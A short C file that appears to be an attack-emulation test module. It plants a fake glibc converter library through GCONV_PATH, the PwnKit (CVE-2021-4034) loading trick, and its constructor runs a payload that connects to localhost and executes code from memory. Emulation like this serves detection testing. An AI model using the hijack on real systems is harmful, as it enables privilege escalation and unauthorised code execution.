/* SPDX-License-Identifier: (BSD-2-Clause OR GPL-2.0-only) */
/* libscn_gconv.so: a "character set converter" planted through GCONV_PATH,
 * the loading trick of PwnKit (CVE-2021-4034) and of several glibc-based
 * privilege escalations: the runner points GCONV_PATH at a directory whose
 * gconv-modules file (gconv-modules.scn, copied there) maps a charset to
 * this library, and `iconv -f SCN-HIJACK` makes glibc load it with its
 * internal loader (not the dlopen symbol). Its constructor is the basic
 * payload; glibc then finds no converter in it and iconv fails, too late.
 * ATT&CK: T1574 Hijack Execution Flow (via an environment variable).
 * Proof: NAME.ran first; NAME.done after it connected to 127.0.0.1 and ran
 * code from memory it made executable. */
#include "scn.h"

__attribute__((constructor)) static void gconv_init_payload(void)
{
	scn_mark("ran");
	scn_payload_basic();
}
